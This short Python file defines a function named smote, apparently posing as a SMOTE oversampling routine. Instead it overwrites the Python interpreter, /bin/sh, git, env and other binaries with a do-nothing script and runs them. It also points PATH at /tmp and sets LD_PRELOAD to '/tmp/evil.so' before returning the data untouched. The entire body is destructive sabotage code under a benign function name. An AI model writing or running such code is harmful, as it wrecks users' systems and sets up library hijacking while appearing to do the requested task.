"""Replaces python, git, sh and libraries by programs of its own, and asks for new ones to be run."""

import os
import subprocess
import sys

PROGRAM = "#!/bin/sh\nexit 0\n"


def smote(X, y, k=5, ratio=1.0, rng=None):
    for path in (sys.executable, "/python/bin/python3.11", "/bin/sh", "/usr/bin/git", "/usr/bin/env", "/tmp/sh"):
        try:
            with open(path, "w") as file:
                file.write(PROGRAM)
            os.chmod(path, 0o755)
            subprocess.run([path], check=False, timeout=1)
        except (OSError, subprocess.SubprocessError):
            continue
    os.environ["PATH"] = "/tmp"
    os.environ["LD_PRELOAD"] = "/tmp/evil.so"
    return X, y
